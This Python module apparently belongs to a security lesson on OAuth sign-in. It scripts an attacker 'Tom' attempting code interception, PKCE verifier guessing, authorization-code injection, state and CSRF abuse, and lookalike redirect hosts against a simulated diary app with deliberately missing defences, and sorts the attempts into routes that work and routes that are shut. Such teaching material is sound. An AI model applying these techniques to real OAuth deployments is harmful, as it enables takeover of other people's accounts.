"""Two ways to Ada's notes at the diary (lesson 03)."""

from urllib.parse import urlencode

from labutils.identity.person import sign_in
from labutils.lessons.lesson_03.missing_defences import (
    DIARY,
    RFC_VERIFIER,
    Diary,
    api_request,
    authorization_request,
    challenge,
    one_client,
    parameters,
    token_request,
)

CALLBACK = DIARY + "/cb"


def first_note(scene: Diary) -> str:
    page = scene.tom.get(DIARY + "/")
    return page.json().get("notes", [page.text])[0]


def redeemed(scene: Diary, code: str, verifier: str = "", redirect_uri: str = CALLBACK) -> str:
    answer = token_request(scene.tom, code, verifier, redirect_uri, client_id="diary").json()
    if "access_token" not in answer:
        return answer["error_description"]
    return api_request(scene.tom, answer["access_token"]).json()["notes"][0]


def with_adas_other_password(scene: Diary) -> str:
    """The password of the lesson's Ada, at the diary's provider."""
    typed = one_client().typed("ada")
    sign_in(scene.tom, DIARY + "/login", typed["username"], typed["password"])
    return first_note(scene)


def code_interception(scene: Diary) -> str:
    return redeemed(scene, parameters(scene.ada_signs_in())["code"])


def any_verifier(scene: Diary) -> str:
    return redeemed(scene, parameters(scene.ada_signs_in())["code"], "v" * 43)


def code_injection(scene: Diary) -> str:
    """Ada's code in place of Tom's, in a sign-in that Tom's browser began (RFC 9700, 4.5)."""
    hers = parameters(scene.ada_signs_in())
    state = parameters(scene.tom.get(DIARY + "/login"))["state"]
    scene.tom.get(CALLBACK, params=hers | {"state": state})
    return first_note(scene)


def her_own_state(scene: Diary) -> str:
    """Ada's whole authorization response, in Tom's browser: the diary compares state."""
    scene.tom.get(scene.ada_signs_in().headers["location"])
    return first_note(scene)


def her_state_as_his_cookie(scene: Diary) -> str:
    """Where the state is the session ID, the client would redeem Ada's code for Tom."""
    seen = scene.ada_signs_in()
    scene.tom.cookies.set("sign-in", parameters(seen)["state"], domain="diary.example")
    scene.tom.get(seen.headers["location"])
    return first_note(scene)


def a_link_of_toms(scene: Diary) -> str:
    """Cross-site request forgery, which the diary refuses; and then Tom is in nobody's account."""
    began = parameters(scene.tom.get(DIARY + "/login"))
    hers = parameters(scene.ada_signs_in())
    scene.ada_opens(CALLBACK + "?" + urlencode(hers | {"state": began["state"]}))
    return first_note(scene)


def a_host_of_toms(scene: Diary) -> str:
    for trap in (DIARY + ".tom.test/cb", DIARY + "@tom.test/cb", "https://tom.test/cb"):
        request = authorization_request(trap, "", challenge(RFC_VERIFIER), client_id="diary")
        if arrived := scene.ada_opens(request):
            return arrived[0]
    return "nothing arrived"


def injection_into_an_earlier_sign_in(scene: Diary) -> str:
    """Tom's sign-in is older than Ada's, and he has been in his own account before."""
    scene._apps.opens("tom", DIARY + "/login")
    state = parameters(scene.tom.get(DIARY + "/login"))["state"]
    hers = parameters(scene.ada_signs_in())
    scene.tom.get(CALLBACK, params={**hers, "state": state})
    return first_note(scene)


ROUTES = {
    "code injection": code_injection,
    "code injection into an earlier sign-in": injection_into_an_earlier_sign_in,
}
SHUT = {
    "Ada's password at another provider": with_adas_other_password,
    "code interception": code_interception,
    "any verifier will do": any_verifier,
    "Ada's whole response in Tom's browser": her_own_state,
    "Ada's whole response, with her state as Tom's cookie": her_state_as_his_cookie,
    "a link of Tom's": a_link_of_toms,
    "a host of Tom's": a_host_of_toms,
    "the code at another client": lambda scene: (
        token_request(
            scene.tom, parameters(scene.ada_signs_in())["code"], "", CALLBACK, client_id="notes"
        ).text
    ),
    "a made-up code": lambda scene: redeemed(scene, "0" * 22),
}
